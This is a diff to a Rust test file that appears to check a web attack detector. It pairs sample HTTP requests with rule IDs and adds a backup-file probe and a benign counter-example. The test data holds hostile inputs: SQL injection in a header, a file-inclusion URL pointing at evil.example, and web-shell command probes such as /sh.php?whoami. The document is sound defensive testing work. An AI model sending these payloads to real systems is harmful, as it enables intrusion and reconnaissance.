@@ -281,6 +281,7 @@ fn attacks_are_found_in_paths_headers_and_names() {
         (format!("GET / HTTP/1.1\r\n{HEADERS}X-Forwarded-For: 1' and sleep(5)#\r\n\r\n"), 94203),
         (format!("GET /?GALLERY_BASEDIR=http://evil.example/x/ HTTP/1.1\r\n{HEADERS}\r\n"), 93108),
         (format!("GET /docs/union+select+1 HTTP/1.1\r\n{HEADERS}\r\n"), 94202),
+        (format!("GET /index.php.save HTTP/1.1\r\n{HEADERS}\r\n"), 92030),
         (format!("GET /sh.php?whoami HTTP/1.1\r\n{HEADERS}\r\n"), 93205),
         (format!("GET /sh.php?ifconfig HTTP/1.1\r\n{HEADERS}\r\n"), 93205),
         (format!("GET /sh.php?printenv HTTP/1.1\r\n{HEADERS}\r\n"), 93205),
@@ -292,6 +293,7 @@ fn attacks_are_found_in_paths_headers_and_names() {
     }
     for request in [
         format!("GET /docs/union-select-explained HTTP/1.1\r\n{HEADERS}\r\n"),
+        format!("GET /games/1.save?pwd=x&uname=y HTTP/1.1\r\n{HEADERS}\r\n"),
         format!(
             "GET /?path=http://www.example.com/x HTTP/1.1\r\n{HEADERS}X-Forwarded-For: 192.0.2.1, 10.0.0.1\r\n\r\n"
         ),
